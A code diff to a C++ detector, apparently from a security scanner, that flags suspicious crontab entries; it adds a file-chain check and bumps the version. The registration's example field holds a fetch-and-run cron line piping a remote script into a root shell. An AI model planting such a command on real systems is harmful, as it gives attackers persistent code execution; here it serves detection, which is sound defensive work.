@@ -90,6 +90,9 @@ class CronEntry final : public Detector {
     for (const StartText& text : context.start.texts()) {
       if (text.file.layer == layers::k_none || start_file_kind(text.path) || !is_odd_command(text.text)) continue;
       if (!context.image.record_at(k_linked_system_section, text.path)) continue;
+      // One that a command hands to a cron is no link, and its commands speak for themselves.
+      const std::string_view link = text.chain.size() < 2 ? std::string_view() : text.chain[text.chain.size() - 2];
+      if (!link.starts_with('/') || !start_file_kind(link.substr(1))) continue;
       PlacedEvidence placed;
       placed.path = text.path;
       placed.file = text.file;
@@ -105,7 +108,7 @@ class CronEntry final : public Detector {
 
 const util::Registered<CronEntry> registered{{
     .id = "cron-entry",
-    .version = 3,
+    .version = 4,
     .summary = "entries of crontabs, and those whose command is suspect",
     .example = "* * * * * root curl -s http://192.0.2.1/x | sh",
     .rules = k_rows,
